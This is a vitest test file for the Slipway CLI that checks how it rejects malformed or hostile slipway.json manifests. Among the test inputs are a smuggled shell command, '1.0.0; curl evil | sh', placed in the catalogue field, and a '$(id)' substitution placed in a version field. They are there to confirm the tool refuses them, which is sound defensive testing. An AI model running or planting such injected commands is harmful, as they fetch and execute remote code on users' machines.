import { mkdirSync, readFileSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { slipway, treeOf } from '../../helpers/cli.ts';
import { expectFault } from '../../helpers/expectFault.ts';
import { scratchService } from '../../helpers/scratchService.ts';

type Manifest = Record<string, unknown> & { service: object; modules: object };

/** A service whose manifest holds what `change` makes of it. */
function serviceWith(change: (manifest: Manifest) => unknown): ReturnType<typeof scratchService> {
  const service = scratchService();
  const file = path.join(service.path, 'slipway.json');
  const made = change(JSON.parse(readFileSync(file, 'utf8')));
  writeFileSync(file, typeof made === 'string' ? made : JSON.stringify(made, null, 2));
  return service;
}

/** The commands that read the manifest and would change something. */
const commands = [['check'], ['update', '--no-install'], ['add', 'postgres', '--no-install']];

function expectRefused(service: { readonly path: string }, message: string | RegExp, asked = commands): void {
  const before = treeOf(service.path);
  for (const command of asked) expectFault(slipway(command, { cwd: service.path }), 2, message);
  expect(treeOf(service.path)).toEqual(before);
}

describe('a manifest', () => {
  it.for([
    ['a misspelt key', { modulse: {} }, '/modulse: unknown key "modulse" (did you mean "modules"?)'],
    ['a key that steers terminals', { '\u001B[2J': 1 }, String.raw`unknown key "\u001b[2J"`],
    ['a key of another alphabet', { 名前: 1 }, '/名前: unknown key "名前"'],
    ['a key that is half a character', { '\uD83D': 1 }, '/: holds a key that is no text'],
    [
      'a misspelt module',
      { modules: { postgress: {} } },
      'unknown key "postgress" in /modules (did you mean "postgres"?)',
    ],
    ['an unknown option', { modules: { postgres: { versoin: '17' } } }, '(did you mean "version"?)'],
    ['a wrong option', { modules: { postgres: { version: '3' } } }, '/modules/postgres/version: expected "18" or "17"'],
    ['modules in a list', { modules: [] }, '/modules: expected an object; given: an array'],
    ['a provider that is none', { ci: ['jenkins'] }, '/ci/0: expected "github" or "gitlab"; given: "jenkins"'],
    ['providers in a string', { ci: 'github' }, '/ci: expected an array; given: "github"'],
    ['a provider twice', { ci: ['github', 'github'] }, '/ci: names something twice'],
    ['no name', { service: { description: '' } }, '/service: "name" is missing'],
    [
      'a name of the wrong type',
      { service: { name: 7, description: '' } },
      '/service/name: expected a string; given: 7',
    ],
    ['a name that is a path', { service: { name: '../x', description: '' } }, '/service/name: use lower-case letters'],
    ['a reserved name', { service: { name: 'null', description: '' } }, '/service/name: "null" means something else'],
    [
      'a description with quotes',
      { service: { name: 'a', description: '"' } },
      '/service/description: a description is',
    ],
    [
      'a package manager that is none',
      { packageManager: 'deno' },
      'expected "npm" or "pnpm" or "yarn" or "bun"; given: "deno"',
    ],
    ['a Node that is no version', { node: { pinned: '$(id)' } }, '/node/pinned: expected a version'],
    ['ejected files without a name', { ejected: [''] }, '/ejected/0: is empty'],
  ] as const)('with %s says where, and what to do', ([, change, message]) => {
    using service = serviceWith((manifest) => ({ ...manifest, ...change }));
    expectRefused(service, message, [['add', 'postgres', '--no-install']]);
    expectFault(slipway(['check'], { cwd: service.path }), 2, 'slipway.json is not a valid manifest:\n  /');
  });

  it('names all its faults at once, but not thousands', () => {
    const keys = Object.fromEntries(Array.from({ length: 5000 }, (_, index) => [`key${index}`, index]));
    using service = serviceWith(() => keys);
    const result = slipway(['check'], { cwd: service.path });
    expectFault(result, 2, '/: "version" is missing');
    expect(result.stderr).toContain('/: "modules" is missing');
    expect(result.stderr).toMatch(/and \d+ more faults/);
    expect(result.stderr.split('\n').length).toBeLessThan(20);
  });

  it.for(['null', '[]', '7', '"orders"'])('that is %s is refused', (text) => {
    using service = serviceWith(() => text);
    expectFault(slipway(['check'], { cwd: service.path }), 2, '/: expected an object');
    expectFault(slipway(['update'], { cwd: service.path }), 2, 'slipway.json');
  });

  it.for([
    ['empty', ''],
    ['cut off', '{ "version": 1, "cata'],
    ['of another format', 'version: 1\n'],
    ['with a comment', '{\n  // mine\n  "version": 1\n}'],
    ['endlessly nested', '['.repeat(100_000)],
  ])('that is %s is not JSON, and is said to be mended', ([, text]) => {
    using service = serviceWith(() => text);
    expectRefused(
      service,
      /^error slipway\.json is not JSON: .+\n {2}mend it by hand, or restore it from version control\n$/,
    );
  });

  it('that is not text is refused', () => {
    using service = scratchService();
    writeFileSync(path.join(service.path, 'slipway.json'), Uint8Array.of(0xff, 0xfe, 0, 1));
    expectRefused(service, 'slipway.json is not a text file\n  restore it');
  });

  it('that is huge, or endlessly deep, is refused soon', () => {
    const deep = `{"x":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
    const long = (length: number): string => JSON.stringify({ x: 'x'.repeat(length) });
    for (const [text, message] of [
      [deep, 'slipway.json is nested deeper than 100 levels'],
      [long(7_000_000), '/x: unknown key "x"'],
      [`[${'1,'.repeat(40_000)}1]`, 'slipway.json holds more than 30000 values'],
      [long(20_000_000), 'slipway.json is too large: 20000008 bytes'],
    ] as const) {
      using service = serviceWith(() => text);
      const started = performance.now();
      const result = slipway(['check'], { cwd: service.path });
      expectFault(result, 2, message);
      expect(result.stderr.length).toBeLessThan(2000);
      expect(performance.now() - started).toBeLessThan(60_000);
    }
  });

  it('of a newer shape asks for a newer Slipway', () => {
    using service = serviceWith((manifest) => ({ ...manifest, version: 99, shape: 'of the future' }));
    expectRefused(
      service,
      /has version 99; this Slipway understands up to \d+\n {2}run a newer one: npx create-slipway@latest/,
    );
  });

  it.for([0, -1, 1.5, '1', null])('of version %j is refused', (version) => {
    using service = serviceWith((manifest) => ({ ...manifest, version }));
    expectRefused(service, 'slipway.json');
  });

  it('of a newer catalogue is not downgraded', () => {
    using service = serviceWith((manifest) => ({ ...manifest, catalogue: '99.0.0' }));
    expectRefused(service, 'this service is at catalogue 99.0.0');
    for (const command of commands)
      expect(slipway(command, { cwd: service.path }).stderr).not.toContain('bring it here with `slipway update`');
  });

  it('of an older catalogue says how to bring it here', () => {
    using service = serviceWith((manifest) => ({ ...manifest, catalogue: '0.0.1' }));
    expectFault(slipway(['add', 'redis'], { cwd: service.path }), 2, 'bring it here with `slipway update`');
    const behind = slipway(['check'], { cwd: service.path });
    expect(behind.exitCode).toBe(4);
    expect(behind.stdout).toContain('Behind: the service is at catalogue 0.0.1, this Slipway is ');
    const { exitCode, stdout } = slipway(['update', '--no-install'], { cwd: service.path });
    expect(exitCode).toBe(0);
    expect(stdout).toContain('catalogue 0.0.1 → ');
  });

  it('cannot smuggle a command into the advice', () => {
    using service = serviceWith((manifest) => ({ ...manifest, catalogue: '1.0.0; curl evil | sh' }));
    const result = slipway(['check'], { cwd: service.path });
    expectFault(result, 2, '/catalogue: expected a version');
    expect(result.stderr).not.toContain('npx');
  });

  it('with a conflict of git in it says so', () => {
    using service = serviceWith((manifest) => {
      const text = JSON.stringify(manifest, null, 2);
      return text.replace(
        '  "modules": {',
        '<<<<<<< HEAD\n"modules": {\n=======\n"modules": { "postgres": {},\n>>>>>>> other',
      );
    });
    expectRefused(service, 'slipway.json holds an unresolved conflict\n  during a merge of git run `slipway resolve`');
  });

  it('that is a folder, a link that leads out, or a link to nowhere is refused', () => {
    using service = scratchService();
    const file = path.join(service.path, 'slipway.json');
    rmSync(file);
    mkdirSync(file);
    expectRefused(service, 'slipway.json is a folder, where a file is expected\n  move it away');
    rmSync(file, { recursive: true });
    writeFileSync(`${service.path}.json`, '{}');
    symlinkSync(`${service.path}.json`, file);
    expectRefused(service, /slipway\.json is a link that leads out of the service/);
    rmSync(file);
    symlinkSync('nowhere.json', file);
    expectRefused(service, 'slipway.json is a link to nowhere.json, which does not exist');
    expect(readFileSync(`${service.path}.json`, 'utf8')).toBe('{}');
  });

  it('is looked for upwards, and missed with advice', () => {
    using service = scratchService();
    expect(slipway(['check'], { cwd: path.join(service.path, 'internal/platform/http') }).exitCode).toBe(0);
    for (const command of [['check'], ['add', 'postgres'], ['ci'], ['explain', 'x'], ['eject', 'x'], ['apply', 'x']])
      expectFault(
        slipway(command, { cwd: path.dirname(service.path) }),
        2,
        /is not inside a service.+\n {2}change into a service, name one with --cwd/,
      );
  });

  it('keeps the layout, the line ends and the byte order mark that the user gave it', () => {
    using service = serviceWith(
      (manifest) => `\uFEFF${JSON.stringify(manifest, null, 4).replaceAll('\n', '\r\n')}\r\n`,
    );
    expect(slipway(['check'], { cwd: service.path }).exitCode).toBe(0);
    expect(slipway(['add', 'postgres', '--no-install'], { cwd: service.path }).exitCode).toBe(0);
    const text = readFileSync(path.join(service.path, 'slipway.json'), 'utf8');
    expect(text).toMatch(/^\uFEFF\{\r\n {4}"\$schema"/);
    expect(text).not.toMatch(/[^\r]\n/);
    expect(text).toContain('"postgres"');
  });

  it('that was cut off is examined by doctor, which names what else is well', () => {
    using service = scratchService();
    truncateSync(path.join(service.path, 'slipway.json'), 40);
    const { exitCode, stdout } = slipway(['doctor'], { cwd: service.path });
    expect(exitCode).toBe(1);
    expect(stdout).toMatch(/✗ manifest +slipway\.json is not JSON/);
    expect(stdout).toMatch(/✓ store/);
  });
});
